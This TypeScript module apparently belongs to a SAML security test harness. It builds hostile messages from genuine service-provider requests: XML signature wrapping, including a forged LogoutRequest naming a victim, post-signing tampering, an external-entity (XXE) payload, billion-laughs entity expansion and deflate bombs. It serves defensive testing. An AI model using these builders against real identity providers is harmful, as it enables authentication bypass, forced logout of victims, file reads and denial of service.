import { randomBytes } from 'node:crypto';
import { deflateRawSync } from 'node:zlib';
import { signSamlPost } from '@node-saml/node-saml/lib/saml-post-signing.js';
import { children, NS, parseXml, serializeXml, type XDocument, type XElement } from './saml-xml.js';

/**
 * Builders of hostile SAML messages. Each takes a genuine message from a real service provider and changes it
 * the way an attacker would; the unit tests in test/saml/harness.test.ts check each builds what it claims.
 */

export function newId(): string {
  return `_${randomBytes(16).toString('hex')}`;
}

/** base64 of the deflated XML, as the HTTP-Redirect binding carries a message. */
export function deflateBase64(xml: string | Buffer): string {
  return deflateRawSync(typeof xml === 'string' ? Buffer.from(xml) : xml).toString('base64');
}

/** A Redirect-binding URL for the SSO or SLO endpoint carrying `encoded` as SAMLRequest, with extra parameters. */
export function redirectUrl(endpoint: string, encoded: string, params: Record<string, string> = {}): string {
  const url = new URL(endpoint);
  url.searchParams.set('SAMLRequest', encoded);
  for (const [k, v] of Object.entries(params)) url.searchParams.set(k, v);
  return url.href;
}

/**
 * XML signature wrapping (the samlify advisory GHSA-63ch-w8pw-4mf2): the attacker's own request, unsigned, as
 * the document root, with the genuine signed request moved inside it (into samlp:Extensions), where a
 * verifier that looks for "a valid signature somewhere" still finds one. `changes` sets attributes on the outer
 * request, which gets a fresh ID unless `changes.ID` says otherwise.
 * `signatureAtRoot` moves the genuine ds:Signature to the outer root too, still referencing the wrapped ID.
 */
export function wrapSignedRequest(
  signedXml: string,
  changes: Record<string, string>,
  options: { signatureAtRoot?: boolean } = {},
): string {
  const original = parseXml(signedXml);
  const doc = parseXml(signedXml);
  const outer = doc.documentElement;
  const signature = children(outer, NS.dsig, 'Signature')[0];
  if (!signature) throw new Error('the request to wrap is not signed');
  outer.removeChild(signature);
  outer.setAttribute('ID', newId());
  for (const [name, value] of Object.entries(changes)) outer.setAttribute(name, value);

  const wrapped = doc.importNode(original.documentElement, true) as XElement;
  if (options.signatureAtRoot) {
    const innerSignature = children(wrapped, NS.dsig, 'Signature')[0]!;
    wrapped.removeChild(innerSignature);
    const issuer = children(outer, NS.assertion, 'Issuer')[0];
    outer.insertBefore(innerSignature, issuer ? issuer.nextSibling : outer.firstChild);
  }
  extensionsOf(doc, outer).appendChild(wrapped);
  return serializeXml(doc);
}

/** The outer message's samlp:Extensions (made after the Issuer, or after a root signature, when missing). */
function extensionsOf(doc: XDocument, outer: XElement): XElement {
  const existing = children(outer, NS.protocol, 'Extensions')[0];
  if (existing) return existing;
  const extensions = doc.createElementNS(NS.protocol, 'samlp:Extensions');
  const after = children(outer, NS.dsig, 'Signature')[0] ?? children(outer, NS.assertion, 'Issuer')[0];
  outer.insertBefore(extensions, after ? after.nextSibling : outer.firstChild);
  return extensions;
}

/**
 * The same wrapping with an outer message the attacker wrote whole (e.g. a LogoutRequest naming a victim) and a
 * genuine signed message of the attacker's own inside it.
 */
export function wrapInside(outerXml: string, signedXml: string): string {
  const doc = parseXml(outerXml);
  const signed = parseXml(signedXml).documentElement;
  if (children(signed, NS.dsig, 'Signature').length !== 1) throw new Error('the inner message is not signed');
  extensionsOf(doc, doc.documentElement).appendChild(doc.importNode(signed, true));
  return serializeXml(doc);
}

/** The signed request with one attribute of the root changed after signing: its signature no longer matches. */
export function tamperAttribute(signedXml: string, name: string, value: string): string {
  const doc = parseXml(signedXml);
  if (children(doc.documentElement, NS.dsig, 'Signature').length !== 1)
    throw new Error('the request to tamper with is not signed');
  doc.documentElement.setAttribute(name, value);
  return serializeXml(doc);
}

/** Replaces the AuthnRequest's root attribute in an unsigned request (for Redirect binding payloads). */
export function setRootAttribute(xml: string, name: string, value: string): string {
  const doc = parseXml(xml);
  doc.documentElement.setAttribute(name, value);
  return serializeXml(doc);
}

/**
 * The request with a DOCTYPE declaring an external entity `xxe` (pointing at `systemId`), referenced from the
 * Issuer: an IdP that resolves entities reads the file or fetches the URL.
 */
export function withExternalEntity(xml: string, systemId: string): string {
  const body = xml.replace(/^<\?xml[^>]*\?>\s*/, '');
  const rootName = /^<([\w:.-]+)/.exec(body)?.[1];
  if (!rootName) throw new Error('no root element');
  const withRef = body.replace(/(<(?:saml2?:)?Issuer\b[^>]*>)([^<]*)/, '$1$2&xxe;');
  if (withRef === body) throw new Error('no Issuer to put the entity reference in');
  return `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE ${rootName} [\n  <!ENTITY xxe SYSTEM "${systemId}">\n]>\n${withRef}`;
}

/** The request with nested internal entities ("billion laughs"): small on the wire, gigabytes when expanded. */
export function withEntityExpansion(xml: string): string {
  const body = xml.replace(/^<\?xml[^>]*\?>\s*/, '');
  const rootName = /^<([\w:.-]+)/.exec(body)![1];
  const levels = ['<!ENTITY lol0 "lollollollollollollollollollol">'];
  for (let i = 1; i <= 9; i++) levels.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
  const withRef = body.replace(/(<(?:saml2?:)?Issuer\b[^>]*>)([^<]*)/, '$1$2&lol9;');
  return `<?xml version="1.0"?>\n<!DOCTYPE ${rootName} [\n${levels.join('\n')}\n]>\n${withRef}`;
}

/**
 * A valid AuthnRequest padded inside its start tag with `size` bytes of spaces: well-formed XML, tiny when
 * deflated (about 1000:1), huge when inflated.
 */
export function paddedRequest(xml: string, size: number): Buffer {
  const body = xml.replace(/^<\?xml[^>]*\?>\s*/, '');
  const cut = /^<[\w:.-]+/.exec(body)![0].length;
  return Buffer.concat([
    Buffer.from(body.slice(0, cut)),
    Buffer.alloc(size, 0x20),
    Buffer.from(body.slice(cut)),
  ]);
}

/** `size` zero bytes, deflated and base64-encoded: a classic deflate bomb for the Redirect binding. */
export function deflateBomb(size: number): string {
  return deflateRawSync(Buffer.alloc(size), { level: 9 }).toString('base64');
}

/**
 * Signs a SAML protocol message (LogoutRequest, AuthnRequest) with an enveloped signature after the Issuer, as
 * the HTTP-POST binding carries it — for building signed messages node-saml only sends by redirect.
 */
export function signPostMessage(xml: string, privateKey: string, certificate: string): string {
  const root = parseXml(xml).documentElement.localName;
  return signSamlPost(xml, `/*[local-name(.)="${root}" and namespace-uri(.)="${NS.protocol}"]`, {
    privateKey,
    publicCert: certificate,
    signatureAlgorithm: 'sha256',
    digestAlgorithm: 'sha256',
  });
}
